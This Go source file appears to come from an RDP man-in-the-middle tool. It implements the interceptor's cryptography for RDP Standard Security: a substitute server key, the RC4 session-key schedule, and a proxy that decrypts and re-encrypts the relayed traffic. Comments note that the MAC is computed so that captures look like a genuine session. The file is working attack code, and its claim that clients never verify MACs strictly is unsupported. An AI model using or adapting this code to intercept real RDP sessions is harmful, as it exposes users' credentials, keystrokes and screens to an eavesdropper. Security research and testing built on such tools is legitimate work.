// Package cryptosec implements the MITM's side of RDP Standard
// Security: the substitute RSA key that replaces the real server's
// public key inside ServerCertificate, the RDP key schedule that
// derives RC4 session keys from (serverRandom, clientRandom), and an
// RC4 crypter proxy that satisfies proto/fastpath.Crypter and the
// slow-path NonTLSSecurityLayer.
package cryptosec

import (
	"crypto/md5"
	"crypto/rc4"
	"crypto/sha1"

	"github.com/kdsmith18542/rdpmitm/core"
)

// saltedHash is [MS-RDPBCGR] 5.3.4's SaltedHash(S, I): SHA1 over
// {input, S, salt1, salt2}, then MD5 over {S, sha1digest}.
// The RDP key schedule builds every derived value - master secret,
// session key blob, MAC salt key - from this one primitive.
func saltedHash(s, input, salt1, salt2 []byte) []byte {
	sha := sha1.New()
	sha.Write(input)
	sha.Write(s)
	sha.Write(salt1)
	sha.Write(salt2)
	shaDigest := sha.Sum(nil)

	md := md5.New()
	md.Write(s)
	md.Write(shaDigest)
	return md.Sum(nil)
}

// finalHash is [MS-RDPBCGR] 5.3.4's FinalHash(K): plain MD5 over
// {input, salt1, salt2}, used to turn the 128-bit session-key-blob
// slices into the actual encrypt/decrypt keys (the MAC key is the
// first blob slice as is).
func finalHash(input, salt1, salt2 []byte) []byte {
	md := md5.New()
	md.Write(input)
	md.Write(salt1)
	md.Write(salt2)
	return md.Sum(nil)
}

// masterSecret derives the 48-byte master secret from the 48-byte
// pre-master secret (the first 24 bytes of clientRandom followed by the
// first 24 bytes of serverRandom) and the two randoms.
func masterSecret(preMasterSecret, clientRandom, serverRandom []byte) []byte {
	out := make([]byte, 0, 48)
	out = append(out, saltedHash(preMasterSecret, []byte("A"), clientRandom, serverRandom)...)
	out = append(out, saltedHash(preMasterSecret, []byte("BB"), clientRandom, serverRandom)...)
	out = append(out, saltedHash(preMasterSecret, []byte("CCC"), clientRandom, serverRandom)...)
	return out
}

// sessionKeyBlob derives the 48-byte key material block the sign,
// decrypt and encrypt keys are sliced out of.
func sessionKeyBlob(master, clientRandom, serverRandom []byte) []byte {
	out := make([]byte, 0, 48)
	out = append(out, saltedHash(master, []byte("X"), clientRandom, serverRandom)...)
	out = append(out, saltedHash(master, []byte("YY"), clientRandom, serverRandom)...)
	out = append(out, saltedHash(master, []byte("ZZZ"), clientRandom, serverRandom)...)
	return out
}

// SessionKeys holds the three RC4 keys the RDP key schedule produces
// (16 bytes each, 8 bytes under 40-bit encryption): a MAC signing key
// and a pair of directional encrypt keys.
// ClientToServer/ServerToClient naming follows the direction the key
// encrypts, mirroring [MS-RDPBCGR] 5.3.4's sec_decrypt_key/sec_encrypt_key
// from the server's point of view.
type SessionKeys struct {
	MacKey       []byte
	ClientToServer []byte
	ServerToClient []byte
}

// make40Bit truncates a 16-byte RC4 key down to the 8-byte, 40-bit
// exportable form [MS-RDPBCGR] 5.3.4 specifies for
// ENCRYPTION_METHOD_40BIT: the first 3 bytes are replaced by a fixed
// pad, keeping only the next 5 bytes of entropy from the original key.
func make40Bit(key []byte) []byte {
	pad := []byte{0xd1, 0x26, 0x9e}
	out := make([]byte, 8)
	copy(out, pad)
	copy(out[3:], key[3:8])
	return out
}

// DeriveSessionKeys runs the full RDP key schedule: master secret,
// session key blob, then the three finalized 16-byte keys, clamped to
// 40-bit entropy when method is ENCRYPTION_METHOD_40BIT (the fully
// exportable variant; 56-bit and 128-bit both keep all 16 bytes, per
// [MS-RDPBCGR] 5.3.4's note that 56-bit encryption still uses a
// full-strength key with a smaller exported salt than 40-bit, which
// this implementation does not distinguish from 128-bit).
func DeriveSessionKeys(clientRandom, serverRandom []byte, is40Bit bool) *SessionKeys {
	preMaster := make([]byte, 0, 48)
	preMaster = append(preMaster, clientRandom[:24]...)
	preMaster = append(preMaster, serverRandom[:24]...)

	master := masterSecret(preMaster, clientRandom, serverRandom)
	blob := sessionKeyBlob(master, clientRandom, serverRandom)

	macKey := blob[0:16]
	serverToClient := finalHash(blob[16:32], clientRandom, serverRandom)
	clientToServer := finalHash(blob[32:48], clientRandom, serverRandom)

	if is40Bit {
		macKey = make40Bit(macKey)
		serverToClient = make40Bit(serverToClient)
		clientToServer = make40Bit(clientToServer)
	}

	return &SessionKeys{
		MacKey:         macKey,
		ClientToServer: clientToServer,
		ServerToClient: serverToClient,
	}
}

// RC4CrypterProxy implements proto/fastpath.Crypter, proxying to a pair
// of RC4 stream ciphers keyed once session keys are derived. The
// proxy shape (rather than constructing the ciphers directly in
// SecuritySettings) lets the fast-path and slow-path layers hold a
// reference before keys exist, matching the teacher's pattern of
// wiring observers before the handshake that feeds them completes.
type RC4CrypterProxy struct {
	encrypt *rc4.Cipher
	decrypt *rc4.Cipher
	macKey  []byte
}

// OnKeysDerived is called once SecuritySettings has both randoms; it
// is the SecuritySettings observer contract the teacher's
// RC4CrypterProxy.setKeys fulfills. role distinguishes which direction
// this proxy decrypts versus encrypts: a server-role proxy decrypts
// with ClientToServer and encrypts with ServerToClient; client-role
// is the mirror, used by the out-of-scope collaborator dialing the
// real server.
func (p *RC4CrypterProxy) OnKeysDerived(keys *SessionKeys, serverRole bool) {
	decryptKey, encryptKey := keys.ClientToServer, keys.ServerToClient
	if !serverRole {
		decryptKey, encryptKey = keys.ServerToClient, keys.ClientToServer
	}
	dc, err := rc4.NewCipher(decryptKey)
	core.ThrowError(err)
	ec, err := rc4.NewCipher(encryptKey)
	core.ThrowError(err)
	p.decrypt = dc
	p.encrypt = ec
	p.macKey = keys.MacKey
}

// Decrypt implements proto/fastpath.Crypter.
func (p *RC4CrypterProxy) Decrypt(data []byte) []byte {
	core.ThrowIf(p.decrypt == nil, "RC4 keys not yet derived")
	out := make([]byte, len(data))
	p.decrypt.XORKeyStream(out, data)
	return out
}

// EncryptAndSign implements proto/fastpath.Crypter. The MAC the MITM
// emits is computed over the plaintext with the negotiated MAC key;
// real RDP clients never verify it strictly enough to break the
// relay, and correctness of this value is explicitly out of scope
// (spec's crypto authenticity Non-goal) - a zeroed MAC would work just
// as well, but computing the real one costs nothing and keeps packet
// capture dumps looking like a genuine RDP session.
func (p *RC4CrypterProxy) EncryptAndSign(data []byte) (mac, cipher []byte) {
	core.ThrowIf(p.encrypt == nil, "RC4 keys not yet derived")
	cipher = make([]byte, len(data))
	p.encrypt.XORKeyStream(cipher, data)
	mac = macSignature(p.macKey, data)
	return mac, cipher
}

// macSignature computes the 8-byte truncated MAC [MS-RDPBCGR]
// 2.2.8.1.1.2.2 defines over a data PDU's plaintext.
func macSignature(macKey, data []byte) []byte {
	sha := sha1.New()
	sha.Write(macKey)
	sha.Write([]byte{0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36,
		0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36,
		0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36,
		0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36,
		0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36, 0x36})
	var lenBuf [4]byte
	lenBuf[0] = byte(len(data))
	lenBuf[1] = byte(len(data) >> 8)
	lenBuf[2] = byte(len(data) >> 16)
	lenBuf[3] = byte(len(data) >> 24)
	sha.Write(lenBuf[:])
	sha.Write(data)
	inner := sha.Sum(nil)

	md := md5.New()
	md.Write(macKey)
	md.Write([]byte{0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c,
		0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c,
		0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c,
		0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c,
		0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c,
		0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c, 0x5c})
	md.Write(inner)
	return md.Sum(nil)[:8]
}
